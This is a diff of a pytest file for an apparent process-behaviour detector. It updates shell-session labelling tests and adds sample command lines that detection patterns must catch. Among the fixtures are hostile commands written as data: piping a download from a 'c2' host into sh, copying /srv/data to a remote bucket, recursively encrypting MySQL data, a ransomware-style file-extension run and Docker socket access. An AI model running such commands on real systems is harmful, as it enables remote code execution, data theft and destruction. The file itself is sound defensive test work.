@@ -44,7 +44,7 @@ def test_what_the_workload_does_and_what_is_unknown_give_no_signal_of_people(kno
 def test_a_shell_that_shows_a_person_counts_once() -> None:
     found = names(process__parent={"name": "bash", "pid": 7}, process__provenance={"session": "exec"})
 
-    assert found == {"interactive"}
+    assert found == {"interactive", "by_hand"}
 
 
 @pytest.mark.parametrize("name", ["dpkg", "npm", "link", "tool-updater", "containerd"])
@@ -136,6 +136,11 @@ ARGV = {
     "runtime_socket": "curl --unix-socket /var/run/docker.sock",
     "encoded": "sh -c curl c2|sh",
     "memory_file": "worker --config /dev/shm/c.json",
+    "outside_address": "helper --to https://metrics.example.io/v1",
+    "key_store": "helper -f /work/upload-keystore.jks",
+    "ransom": "a --path /srv --ext .lck9 --threads 8",
+    "detached": "helper --detach",
+    "hidden_file": "a --config /tmp/.a.conf",
     "exfiltration": "sync copy /srv/data remote:bucket/archive",
     "data_files": "enc -r /var/lib/mysql",
 }
@@ -163,7 +168,8 @@ def test_each_argv_pattern_has_a_line_that_it_finds(name: str) -> None:
     ],
 )
 def test_everyday_command_lines_match_no_pattern(line: str) -> None:
-    assert argv_signals(line.split(" ")) == []
+    """An address alone is of a tool that fetches, which is known by its name."""
+    assert set(argv_signals(line.split(" "))) <= {"outside_address"}
 
 
 def test_a_process_that_calls_itself_a_package_manager_is_not_one() -> None:
@@ -247,8 +253,10 @@ def test_a_package_manager_above_a_server_lowers_nothing() -> None:
 
 
 def test_a_session_below_a_login_daemon_is_interactive_and_what_the_daemon_starts_is_not() -> None:
-    assert names(**below("bash", "tmux", "sshd")) == {"interactive"}
+    assert names(**below("bash", "tmux", "sshd")) == {"interactive", "by_hand"}
+    assert names(**below("bash", "sshd", "sshd", "tini", "supervisord")) == {"interactive", "by_hand"}
     assert names(**below("sshd")) == {"service_child"}
+    assert "service_child" in names(**below("bash", "nginx", "sshd"))
 
 
 @pytest.mark.parametrize("service", ["node", "java", "php-fpm", "postgres", "gunicorn"])
